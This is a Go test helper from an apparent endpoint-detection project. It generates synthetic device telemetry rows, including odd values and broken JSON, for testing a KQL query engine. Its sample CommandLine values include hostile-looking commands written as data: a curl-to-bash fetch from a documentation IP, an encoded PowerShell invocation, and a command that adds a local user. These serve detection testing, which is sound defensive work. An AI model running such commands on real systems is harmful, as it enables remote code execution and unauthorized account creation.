package kqltest

import (
	"fmt"
	"math/rand/v2"
	"strings"

	"github.com/vedette-edr/vedette/kql/bind"
	"github.com/vedette-edr/vedette/kql/types"
)

// Sample is a source of made telemetry: rows for the tables of a catalogue that look as
// rows of devices do where the name of a column says what that is, and that are awkward
// elsewhere: nulls, empty texts, numbers in texts, JSON of several shapes, broken JSON.
type Sample struct {
	Catalog bind.Catalog
	Now     int64 // rows lie in the three days before
	Rows    int   // of each table
	// Words are texts that a third of the values are taken from, such as the literals of
	// the query that is to find something.
	Words []string
	Seed  uint64
}

// Data makes rows for the physical tables called names; the other tables of the catalogue
// are there, empty.
func (s Sample) Data(names map[string]bool) *Data {
	d := &Data{Tables: map[string]*bind.Table{}, Rows: map[string][][]types.Value{}, Physical: map[string][]bind.Column{}}
	if lib, ok := s.Catalog.(bind.Library); ok {
		d.Functions = lib.Function
	}
	for _, name := range s.Catalog.TableNames() {
		t, _ := s.Catalog.Table(name)
		d.Tables[name] = t
		if t.Base != "" || !names[name] {
			continue
		}
		var stored []bind.Column
		for _, c := range t.Columns {
			if c.Source == "" {
				stored = append(stored, c)
			}
		}
		d.Physical[name] = stored
		r := rand.New(rand.NewPCG(s.Seed, uint64(len(name))))
		for range s.Rows {
			row := make([]types.Value, len(stored))
			for i, c := range stored {
				row[i] = s.value(c, r)
			}
			d.Rows[name] = append(d.Rows[name], row)
		}
	}
	return d
}

func (s Sample) value(c bind.Column, r *rand.Rand) types.Value {
	t := c.Type
	if c.JSONString {
		return types.NewString(pick(r, jsonTexts))
	}
	if t != types.String && r.IntN(10) == 0 {
		return types.Null(t)
	}
	switch t {
	case types.String:
		return types.NewString(s.text(c.Name, r))
	case types.Bool:
		return types.NewBool(r.IntN(2) == 0)
	case types.Int, types.Long:
		return types.Convert(types.NewLong([]int64{0, 1, 2, 4, 80, 443, 3389, -1, 1 << 31, int64(r.IntN(70000))}[r.IntN(10)]), t)
	case types.Real:
		return types.NewReal([]float64{0, 0.5, -1.25, 1e10, float64(r.IntN(1000)) / 8}[r.IntN(5)])
	case types.Decimal:
		return types.NewDecimal("12.5")
	case types.Datetime:
		return types.NewDatetime(s.Now - r.Int64N(3*types.TicksPerDay))
	case types.Timespan:
		return types.NewTimespan(r.Int64N(types.TicksPerDay))
	case types.GUID:
		return types.Convert(types.NewString(fmt.Sprintf("00000000-0000-4000-8000-%012x", r.IntN(5))), types.GUID)
	case types.Dynamic:
		return types.Convert(types.NewString(pick(r, jsonTexts)), types.Dynamic)
	}
	return types.Null(t)
}

func (s Sample) text(name string, r *rand.Rand) string {
	if len(s.Words) > 0 && r.IntN(3) == 0 {
		return pick(r, s.Words)
	}
	if r.IntN(12) == 0 {
		return ""
	}
	for _, k := range kinds {
		if strings.Contains(name, k.part) {
			if k.hex > 0 {
				return strings.Repeat(fmt.Sprintf("%02x", r.IntN(4)), k.hex/2)
			}
			return pick(r, k.values)
		}
	}
	return pick(r, oddTexts)
}

func pick(r *rand.Rand, list []string) string { return list[r.IntN(len(list))] }

// kinds are the values of columns by a part of their names; the first that fits counts.
var kinds = []struct {
	part   string
	hex    int
	values []string
}{
	{"SHA256", 64, nil}, {"SHA1", 40, nil}, {"MD5", 32, nil}, {"DeviceId", 40, nil},
	{"IPAddresses", 0, []string{`[{"IPAddress":"10.1.2.3","SubnetPrefix":24,"AddressType":"Private"},{"IPAddress":"fe80::1","SubnetPrefix":64,"AddressType":"Private"}]`, `[]`}},
	{"ConnectedNetworks", 0, []string{`[{"Name":"corp.example","Description":"Corp","IsConnectedToInternet":true,"Category":"DomainAuthenticated"}]`, `[]`}},
	{"IP", 0, []string{"10.1.2.3", "192.168.7.9", "203.0.113.80", "8.8.8.8", "fe80::1", "2001:db8::7", "127.0.0.1"}},
	{"Url", 0, []string{"https://user@example.org:8443/a/b.exe?x=1&y=%20z#f", "example.org", "http://203.0.113.80/p", "raw.githubusercontent.com"}},
	{"CommandLine", 0, []string{`powershell.exe -NoP -enc SQBFAFgAIAAoACkA`, `"C:\Windows\System32\cmd.exe" /c whoami && net user bob /add`, `curl -fsSL http://203.0.113.80/x.sh | bash`, `rundll32.exe shell32.dll,Control_RunDLL`, `ls`}},
	{"FolderPath", 0, []string{`C:\Windows\System32\cmd.exe`, `C:\Users\bob\AppData\Local\Temp\a b.ps1`, "/usr/bin/curl", "/tmp/.x/y"}},
	{"FileName", 0, []string{"cmd.exe", "powershell.exe", "rundll32.exe", "winword.exe", "bash", "curl", "a b.ps1"}},
	{"DeviceName", 0, []string{"pc1.corp.example", "srv-dc.corp.example", "lx7"}},
	{"AccountSid", 0, []string{"S-1-5-18", "S-1-5-21-1-2-3-1001"}},
	{"Account", 0, []string{"system", "bob", "alice", "CORP", "root"}},
	{"ActionType", 0, []string{"ProcessCreated", "ConnectionSuccess", "LogonSuccess", "LogonFailed", "FileCreated", "RegistryValueSet", "ImageLoaded", "AntivirusDetection", "ScheduledTaskCreated"}},
	{"RegistryKey", 0, []string{`HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Run`, `HKEY_CURRENT_USER\Software\Classes`}},
	{"LogonType", 0, []string{"Interactive", "Network", "RemoteInteractive", "Batch"}},
	{"OSPlatform", 0, []string{"Windows11", "WindowsServer2019", "Linux"}},
	{"Version", 0, []string{"10.0.19045.1", "1.2", "5.15.0-91-generic"}},
	{"Severity", 0, []string{"High", "Medium", "Low"}},
}

var oddTexts = []string{"", "x", "Yes", "true", "12", "-7", "1.5", "2024-05-31T12:00:00Z", "1.02:03:04", "Ünï cödé ✓", "a;b,c|d", `q"uo'te\`, "%", "[1,2,3]", `{"k":"v"}`, "00000000-0000-4000-8000-000000000001"}

var jsonTexts = []string{
	"", "{}", "[]", "null", "7", `"text"`, `{"Cmd":"whoami","Count":3,"Flag":true,"Tags":["a","b"]}`,
	`{"FileSize":"12","Nested":{"Deep":[{"IPAddress":"10.1.2.3"},{"IPAddress":null}]},"When":"2024-05-31T12:00:00Z"}`,
	`[{"IPAddress":"10.1.2.3","SubnetPrefix":24},{"IPAddress":"fe80::1"}]`, `["T1059","T1105"]`, `{"IsAudit":"false","Port":443,"Name":"Ünï"}`, `{"broken":`,
}
